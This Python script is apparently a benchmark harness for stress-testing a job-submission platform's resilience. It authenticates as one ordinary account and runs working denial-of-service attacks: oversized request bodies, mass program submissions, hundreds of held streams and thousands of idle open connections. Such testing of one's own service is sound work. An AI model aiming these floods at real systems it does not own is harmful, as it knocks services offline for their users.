"""
The attacks of ``bench_attacks``, each by one account with ordinary access: ``python attacks.py NAME URL API_KEY CURSOR``. It runs
until it is ended, and uses nothing of sfjobs, so that it attacks any version.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import socket
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass

import httpx

TOKEN_PATH = "/auth/realms/platform/protocol/openid-connect/token"
HEAD = "name attack\nversion 1.0\ntarget simulon_gaussian (shots=4)\n\n"
MEBIBYTE = 1 << 20


@dataclass
class Attacker:
    client: httpx.AsyncClient
    address: tuple[str, int]
    cursor: str

    async def many(self, count: int, attack: Callable[[], Awaitable[object]]) -> None:
        """Repeat an attack in ``count`` tasks, whatever the platform answers."""

        async def repeat() -> None:
            while True:
                try:
                    await attack()
                except (httpx.HTTPError, OSError):
                    await asyncio.sleep(0.05)

        await asyncio.gather(*(repeat() for _ in range(count)))


async def nothing(_: Attacker) -> None:
    await asyncio.sleep(1e6)


async def replay(attacker: Attacker) -> None:
    """Open streams from a cursor of 200,000 changes ago, and read them."""

    async def read() -> None:
        async with attacker.client.stream("GET", "/jobs/changes", params={"since": attacker.cursor}) as response:
            async for _ in response.aiter_raw():
                pass
            await asyncio.sleep(0.05)

    await attacker.many(3, read)


async def lists(attacker: Attacker) -> None:
    """Send 8 MB of ``[],[],…`` as batches."""
    body = b"[" + b"[]," * (8 * MEBIBYTE // 3 - 10) + b"[]]"
    headers = {"content-type": "application/jobs+json"}
    await attacker.many(3, lambda: attacker.client.post("/jobs", content=body, headers=headers))


async def programs(attacker: Attacker) -> None:
    """Keep 60 different programs of 25 kB in their check."""
    numbers = itertools.count()
    gates = "".join(f"BSgate(0.3{i % 7}, 0.1) | [{i % 7}, {i % 7 + 1}]\n" for i in range(950))

    async def submit() -> None:
        text = f"{HEAD}# {next(numbers)}\n{gates}MeasureFock() | {list(range(8))}\n"
        response = await attacker.client.post("/jobs", json={"circuit": text})
        if response.status_code == 429:
            await asyncio.sleep(0.1)

    await attacker.many(60, submit)


async def bodies(attacker: Attacker) -> None:
    """Send the largest programs, of which each is only a comment."""
    body = json.dumps({"circuit": HEAD + "# text\n" * 90_000 + "MeasureFock() | 0\n" + "#" * 4_000_000}).encode()
    await attacker.many(6, lambda: attacker.client.post("/jobs", content=body))


async def connections(attacker: Attacker) -> None:
    """Open as many connections as it gets, and say nothing."""
    opened: list[socket.socket] = []
    while True:
        connection = socket.socket()
        connection.setblocking(False)
        with suppress(OSError):
            await asyncio.wait_for(asyncio.get_running_loop().sock_connect(connection, attacker.address), 1)
        opened.append(connection)
        if len(opened) > 3000:
            opened.pop(0).close()
        await asyncio.sleep(0.0005)


async def streams(attacker: Attacker) -> None:
    """Hold 400 streams of the feed, and submit jobs that change all of them."""

    async def read() -> None:
        async with attacker.client.stream("GET", "/jobs/changes") as response:
            async for _ in response.aiter_raw():
                pass
            await asyncio.sleep(0.2)

    async def submit() -> None:
        circuit = HEAD.replace("simulon_gaussian", "never") + "MeasureFock() | 0\n"
        await attacker.client.post("/jobs", json={"circuit": circuit})

    await asyncio.gather(attacker.many(400, read), attacker.many(4, submit))


ATTACKS = {attack.__name__: attack for attack in (nothing, replay, lists, programs, bodies, connections, streams)}


async def main(name: str, url: str, api_key: str, cursor: str) -> None:
    limits = httpx.Limits(max_connections=1000)
    async with httpx.AsyncClient(base_url=url, trust_env=False, timeout=60, limits=limits) as client:
        form = {"grant_type": "refresh_token", "refresh_token": api_key, "client_id": "public"}
        token = (await client.post(TOKEN_PATH, data=form)).json()["access_token"]
        client.headers["authorization"] = f"Bearer {token}"
        print("begun", flush=True)
        await ATTACKS[name](Attacker(client, (client.base_url.host, client.base_url.port or 80), cursor))


if __name__ == "__main__":
    with suppress(KeyboardInterrupt):
        asyncio.run(main(*sys.argv[1:]))
